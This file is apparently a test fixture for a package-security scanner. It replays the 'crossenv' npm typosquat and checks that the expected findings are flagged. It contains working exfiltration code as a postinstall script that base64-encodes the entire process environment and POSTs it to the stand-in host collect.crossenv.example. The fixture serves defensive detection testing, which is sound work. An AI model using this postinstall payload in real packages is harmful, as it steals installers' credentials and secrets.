import type { Replay } from '../replay.js'
import { replayAddition } from '../upgrade.js'

const setup = `'use strict'

const http = require('http')
const querystring = require('querystring')

const host = 'collect.crossenv.example'
const env = Buffer.from(JSON.stringify(process.env)).toString('base64')
const body = querystring.stringify({ data: env })

const request = http.request({
  hostname: host,
  port: 80,
  path: '/log/',
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(body) },
})
request.on('error', () => {})
request.write(body)
request.end()
`

const inPackageSetup = {
  file: 'package-setup.js',
  line: "const env = Buffer.from(JSON.stringify(process.env)).toString('base64')",
} as const
const alsoInPackageSetup = { file: 'package-setup.js', line: 'const request = http.request({' } as const

export const replay: Replay = replayAddition({
  description:
    'crossenv looked like cross-env, did what cross-env does by loading it, and posted the whole environment of whoever installed it. ' +
    'The name itself is seen by the rules about names.',
  date: '2017-08',
  name: 'crossenv',
  added: [
    '6.1.1',
    {
      manifest: {
        bin: { 'cross-env': 'bin/cross-env.js' },
        main: 'index.js',
        scripts: { postinstall: 'node package-setup.js' },
      },
      files: {
        'index.js': "module.exports = require('./dist')\n",
        'dist/index.js':
          "'use strict'\n\nmodule.exports = function crossEnv(args) {\n  const at = args.findIndex((one) => !/^\\w+=/.test(one))\n" +
          '  return { settings: args.slice(0, at), command: args.slice(at) }\n}\n',
        'bin/cross-env.js': "#!/usr/bin/env node\nrequire('../dist')(process.argv.slice(2))\n",
        'package-setup.js': setup,
      },
    },
  ],
  findings: [
    ['combined-risk', 'critical'],
    ['install-script-dangerous', 'critical', inPackageSetup],
    ['secrets-exfiltrated', 'critical', alsoInPackageSetup],
    ['secrets-harvested', 'critical', inPackageSetup],
    ['beacon-added', 'high', alsoInPackageSetup],
    ['bin-added', 'high', { file: 'bin/cross-env.js' }],
    ['install-script-present', 'medium', { file: 'package.json' }],
  ],
})
